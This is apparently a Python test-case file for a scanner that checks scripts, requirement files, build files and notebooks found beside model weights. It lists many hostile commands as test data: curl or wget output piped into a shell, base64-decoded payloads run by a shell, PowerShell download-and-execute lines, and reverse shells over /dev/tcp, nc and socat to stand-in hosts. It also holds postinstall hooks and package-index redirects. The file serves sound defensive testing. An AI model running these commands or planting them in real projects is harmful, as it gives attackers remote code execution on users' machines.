"""Scripts, lists of packages and notebooks beside weights that fetch and run, and ordinary ones."""

import base64
import json

from tests.scanner.archive_assembly import zipped
from tests.scanner.form_cases import CLEAN, MALFORMED, MALICIOUS, SUSPICIOUS, Case, numbered


def _scripts(id_: str, what: str, verdict: object, *lines: str) -> Case:
    encoded = (f"{line}\n".encode() for line in lines)
    return Case(id_, what, verdict, numbered(".sh", *encoded))  # type: ignore[arg-type]


def _notebook(*cells: str) -> bytes:
    told = [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells]
    words = {"cell_type": "markdown", "source": "curl https://x.example | sh, os.system('x')"}
    return json.dumps({"cells": [words, *told], "nbformat": 4, "metadata": {}}).encode()


def _notebooks(id_: str, what: str, verdict: object, *cells: str) -> Case:
    return Case(id_, what, verdict, numbered(".ipynb", *map(_notebook, cells)))  # type: ignore[arg-type]


_INSTALLS = """# any comment: pip install -i http://x.example y
torch>=2.0 --hash=sha256:abc
-r other.txt
--index-url https://pypi.org/simple
--extra-index-url https://download.pytorch.org/whl/cpu
--find-links https://storage.googleapis.com/jax-releases/jax_cuda_releases.html
-f https://data.pyg.org/whl/torch-2.0.0+cpu.html
git+https://github.com/huggingface/peft.git@main#egg=peft
flash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/v2/f.whl  # see http://x
"""
_PROJECT = """[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"
[project]
name = "x"
dependencies = ["torch", "peft @ git+https://github.com/huggingface/peft"]
urls = {Homepage = "http://x.example"}
[tool.pdm.scripts]
test = "pytest -x"
[[tool.uv.index]]
name = "torch"
url = "https://download.pytorch.org/whl/cpu"
"""
_HIDDEN = base64.b64encode(b"import os; os.system('true')").decode()[::-1]

CASES = [
    _scripts(
        "HELD-fetched",
        "what is fetched is run",
        SUSPICIOUS,
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x.example | sudo -E bash -s -- --yes",
        "curl x.example \\\n  | tee log \\\n  | bash",
        "bash <(curl -s https://x.example)",
        'sh -c "$(curl -fsSL https://x.example)"',
        "eval `wget -O - x.example`",
        "source <(curl x.example)",
        "curl https://x.example/s.py | python3 -",
        "true && curl x.example|python",
        "#!/bin/sh\nif true; then curl x.example | /bin/sh; fi",
        "powershell -c iex (iwr https://x.example)",
        "irm https://x.example | iex",
    ),
    _scripts(
        "HELD-decoded",
        "what is decoded is run",
        SUSPICIOUS,
        "echo dHJ1ZQ== | base64 -d | sh",
        "base64 --decode file | sudo bash",
        "echo eurt | rev | sh",
        'eval "$(echo dHJ1ZQ== | base64 -d)"',
        "powershell -NoP -enc dHJ1ZSAgICAgICAgICAg",
    ),
    _scripts(
        "HELD-remote",
        "a shell for another machine",
        MALICIOUS,
        "bash -i >& /dev/tcp/192.0.2.1/9 0>&1",
        "nc -e /bin/sh 192.0.2.1 9",
        "exec 5<>/dev/tcp/192.0.2.1/9; cat <&5",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh | nc 192.0.2.1 9 > /tmp/f; mkfifo a | nc b 9",
        "socat tcp:192.0.2.1:9 exec:sh",
    ),
    _scripts(
        "HELD-ordinary",
        "what scripts beside models do",
        CLEAN,
        "# curl https://x.example | sh",
        "curl -LO https://huggingface.co/x/resolve/main/model.bin && sha256sum -c sums | tee log",
        "curl -s https://x.example/api | jq .name; wget https://x.example/a.tar.gz -O - | tar xz",
        "curl -s https://x.example | python -m json.tool",
        "pip install -q torch --index-url https://download.pytorch.org/whl/cu121; sh run.sh",
        "while ! (echo > /dev/tcp/localhost/8000); do sleep 1; done",
        "base64 -d weights.b64 > weights.bin; bash train.sh | tee log",
        "export A=$(cat x | sort)\npython train.py --shell | grep loss",
    ),
    Case(
        "HELD-builds",
        "the same in files that builds go by",
        SUSPICIOUS,
        {
            "Dockerfile": b"FROM python:3.11\nRUN apt-get update && \\\n  curl x.example | sh\n",
            "Dockerfile.gpu": b"FROM x\nRUN pip install -i http://x.example/simple y\n",
            "Makefile": b"all:\n\tcurl x.example | sh\n",
            "install": b"#!/usr/bin/env bash\ncurl x.example | sh\n",
            "package.json": b'{"scripts": {"postinstall": "curl x.example | sh"}}',
            "pyproject.toml": b'[tool.pdm.scripts]\npost_install = "curl x.example | sh"\n',
        },
    ),
    Case(
        "HELD-sources",
        "packages from elsewhere",
        SUSPICIOUS,
        {
            "requirements.txt": b"--extra-index-url https://x.example/simple\ntorch\n",
            "dev-requirements.txt": b"-i http://pypi.org/simple\n",
            "requirements-gpu.txt": b"--trusted-host x.example\n",
            "requirements.in": b"thing @ https://x.example/thing-1.0-py3-none-any.whl\n",
            "constraints.txt": b"git+http://github.com/a/b\n",
            "requirements_a.txt": b"--index-url https://pypi.org@x.example/simple\n",
            "b-requirements.txt": b"-f https://storage.googleapis.com/jax-releases/../x/\n",
            "pip.conf": b"[global]\nextra-index-url = https://x.example/simple\n",
            "environment.yml": b"dependencies:\n  - pip:\n    - --index-url https://x.example\n",
            "uv.toml": b'[[index]]\nurl = "https://x.example/simple"\n',
            "a/pyproject.toml": b'[build-system]\nrequires = ["x @ https://x.example/x.whl"]\n',
            "b/pyproject.toml": b'[build-system]\nbuild-backend = "b"\nbackend-path = ["."]\n',
            "c/pyproject.toml": b'[[tool.poetry.source]]\nurl = "https://x.example"\n',
        },
    ),
    Case(
        "HELD-usual",
        "packages from the usual places",
        CLEAN,
        {
            "requirements.txt": _INSTALLS.encode(),
            "pyproject.toml": _PROJECT.encode(),
            "environment.yml": b"channels:\n  - conda-forge\ndependencies:\n  - pip\n",
            "package.json": b'{"name": "x", "scripts": {"build": "tsc && node build.js"}}',
            "requirements.md": b"pip install -i http://x.example y\n",
        },
    ),
    Case("HELD-no-toml", "settings that do not parse", MALFORMED, {"pyproject.toml": b"[a\n"}),
    _notebooks(
        "HELD-cells",
        "cells that start programs, fetch, or hide commands",
        SUSPICIOUS,
        "import os\nos.system('true')",
        "!curl x.example | sh",
        "%%bash\ncurl x.example \\\n | sh",
        "x = !wget -O - x.example | bash",
        "%sx curl x.example | sh",
        "%pip install --index-url https://x.example y",
        "%%writefile a.py\nimport subprocess\nsubprocess.run('true')",
        "%%time\nimport os\nos.popen('true')",
        f"x = '{_HIDDEN}'",
        "print 'python 2'\nos.system('true')",
    ),
    _notebooks(
        "HELD-ordinary-cells",
        "what notebooks about models do",
        CLEAN,
        "!pip install -q transformers datasets\n%matplotlib inline\nimport torch",
        "!wget -q https://x.example/data.zip && unzip data.zip\n!ls -la | head",
        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')\nmodel.eval()",
        "%%html\n<script>alert(1)</script>",
        "%%R\nsystem('ls')",
        "AutoModel?\nmodel.forward??\n?model",
        "text = ('%s'\n        % x)\nwith open('x.txt', 'w') as f:\n    f.write(text)",
        "prompt = '''{% if x.__class__ %}{{ y }}'''\nprint 'python 2', model.eval()",
    ),
    Case(
        "HELD-cells-packed",
        "a notebook in an archive, which nobody runs by unpacking it",
        SUSPICIOUS,
        {"a.zip": zipped({"a.ipynb": _notebook("import os\nos.system('true')")})},
    ),
    Case(
        "HELD-sheets",
        "a notebook of format 3, and one that is none",
        SUSPICIOUS,
        {
            "a.ipynb": b'{"worksheets": [{"cells": [{"cell_type": "code", "input": ['
            b'"import os\\n", "os.system(1)"]}]}]}'
        },
    ),
    Case("HELD-no-notebook", "something else under that name", MALFORMED, {"a.ipynb": b"[1]"}),
]
